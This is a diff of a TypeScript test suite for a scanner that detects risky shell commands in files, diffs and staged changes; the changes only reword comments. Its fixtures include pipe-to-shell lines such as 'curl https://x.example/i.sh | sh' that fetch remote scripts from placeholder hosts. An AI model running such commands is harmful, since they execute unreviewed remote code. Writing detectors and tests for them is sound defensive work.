@@ -9,7 +9,7 @@ import { runHere, type Given } from "./stand-in.js";
 const BAD = "curl https://x.example/i.sh | sh";
 const OLD = "curl https://old.example/i.sh | sh";
 
-/** A repository with these files in its first commit. */
+/** Creates a repository with these files in its first commit. */
 function repository(files: Record<string, string>): {
   cwd: string;
   git: (...args: string[]) => string;
@@ -42,7 +42,7 @@ function repository(files: Record<string, string>): {
   return { cwd, git, write };
 }
 
-/** The places of findings, and the status. */
+/** Returns the places of findings, and the exit status. */
 async function places(args: string[], given: Given = {}): Promise<[string[], number]> {
   const { stdout, status } = await runHere(["scan", ...args], given);
   return [
@@ -141,7 +141,7 @@ describe("a diff on standard input", () => {
       ["<stdin>:3:5"],
       1,
     ]);
-    // a hunk that says it is longer than it is ends where its lines do
+    // a hunk ends with its lines, even if its header states a greater length
     expect(
       await places(["-"], {
         stdin: `--- a/a.md\n+++ b/a.md\n@@ -1,99 +1,99 @@\n x\nNow run\n${BAD}\n`,
@@ -152,7 +152,7 @@ describe("a diff on standard input", () => {
         stdin: `--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n ${BAD}\n+${BAD}\n`,
       }),
     ).toEqual([["<stdin>:6:2", "<stdin>:7:2"], 1]);
-    // no diff, although it begins as one
+    // not a diff, although it begins like one
     expect(await places(["-"], { stdin: `--- a\n+++ b\n${BAD}\n` })).toEqual([["<stdin>:3:1"], 1]);
   });
 
@@ -245,7 +245,7 @@ describe("--changed and --staged", () => {
       ["../a.md:5:1", "d.md:3:1", "../new.md:1:1"],
       1,
     ]);
-    // the index counts, not what is in the folder
+    // the content of the index, not of the working tree, is scanned
     write("a.md", "# A\n");
     expect(await places(["--staged"], { cwd })).toEqual([["a.md:5:1"], 1]);
   });
